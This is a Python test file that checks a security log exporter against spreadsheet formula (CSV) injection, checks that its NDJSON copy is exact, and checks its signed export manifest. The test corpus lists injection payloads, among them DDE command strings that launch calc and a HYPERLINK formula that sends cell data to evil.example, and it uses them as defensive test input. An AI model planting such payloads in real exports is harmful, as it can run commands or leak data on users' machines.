"""T17: nothing in an export becomes a formula, however a spreadsheet cuts its cells."""

import csv
import hashlib
import io
import json
import zipfile
from base64 import b64decode
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from security.log_export import COLUMNS, SIGNED, Export, harmless, ndjson, pack, table
from security.log_lines import Details, Line
from storage.events import ActorKind, Outcome
from tests.log import LOG_KEYS

NOW = datetime(2026, 11, 23, 4, 30, tzinfo=UTC)
BEGINNINGS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
"""What spreadsheets take for the beginning of a formula (OWASP, CSV Injection), the wide ones included."""
CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "x\n=1+1",
    'x","=1+1',
    "x;=1+1",
    "x;  =1+1",
    "x\t@SUM(A1)",
    "x|=1",
    "'=1+1",
    '"=1+1"',
    '""=1+1',
    "\uff1d1+1",
    ";;=1",
    "=",
    "-",
]
DELIMITERS = ",;\t|"


def event(evil):
    """An event with *evil* wherever words from outside can stand."""
    line = Line(
        seq=1,
        event_id="0193-" + "0" * 31,
        at=NOW,
        type="webhook.sig_fail",
        category="payment",
        outcome=Outcome.DENIED,
        severity=5,
        actor_kind=ActorKind.STRANGER,
        actor_ref=None,
        subject_ref=None,
        role=None,
        channel="page",
        chat_kind=None,
        object_type="order",
        object_ref=evil,
        reason_code=evil,
        request_id="r1",
    )
    return Details(line=line, logged_at=NOW, address="198.51.100.7", device=evil, facts={"word": evil}, hash="0" * 64)


def cells(content, delimiter):
    """All cells, as a spreadsheet that splits at *delimiter* has them."""
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def formulas(content):
    """Cells that a spreadsheet could take for a formula, also after it has trimmed them."""
    return [
        (delimiter, cell)
        for delimiter in DELIMITERS
        for cell in cells(content, delimiter)
        if cell.startswith(tuple(BEGINNINGS)) or cell.strip().startswith(tuple(BEGINNINGS))
    ]


@pytest.mark.parametrize("evil", CORPUS)
def test_t17_no_cell_of_the_corpus_is_a_formula(evil):
    assert formulas(table([event(evil)])) == []


@settings(max_examples=1000)
@given(st.text(st.sampled_from([*BEGINNINGS, *DELIMITERS, *"'\" \u00a0ab1("]), max_size=12) | st.text(max_size=30))
def test_t17_no_cell_of_any_text_is_a_formula(evil):
    assert formulas(table([event(evil)])) == []


@settings(max_examples=500)
@given(st.text(max_size=40))
def test_t17_what_is_harmless_stays_as_it_is_but_for_apostrophes(text):
    assert harmless(text).replace("'", "") == text.replace("'", "")
    assert harmless(harmless(text)) == harmless(text)


def test_t17_every_cell_is_quoted_and_reads_back_in_its_column():
    content = table([event('words, with "quotes"; and more')])

    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))

    assert tuple(row) == COLUMNS
    assert row["reason_code"] == 'words, with "quotes"; and more'
    assert row["address"] == "198.51.100.7"
    assert all(
        line.startswith('"') and line.endswith('"') for line in content.decode("utf-8-sig").split("\r\n") if line
    )


@settings(max_examples=200)
@given(st.text(max_size=40))
def test_the_other_copy_is_exact(text):
    lines = ndjson([event(text)]).decode().split("\n")

    assert len(lines) == 2
    told = json.loads(lines[0])
    assert told["event"].get("reason", text) == text
    assert told["user_agent"].get("original", text) == text
    assert told["source"]["ip"] == "198.51.100.7"
    assert told["event"]["outcome"] == "unknown"
    assert told["esimflux"]["outcome"] == "denied"


def test_the_package_is_signed_and_names_each_file():

    packed = pack(Export([event("=1")], "Sara", "audit", "sev:4-7", NOW, is_complete=True), LOG_KEYS)

    files = zipfile.ZipFile(io.BytesIO(packed))
    manifest = files.read("manifest.json")
    LOG_KEYS.signing.public_key().verify(b64decode(files.read("manifest.sig")), SIGNED + manifest)
    told = json.loads(manifest)
    assert {name: hashlib.sha256(files.read(name)).hexdigest() for name in told["files"]} == {
        name: facts["sha256"] for name, facts in told["files"].items()
    }
    assert (told["by"], told["reason"], told["filters"], told["events"]) == ("Sara", "audit", "sev:4-7", 1)
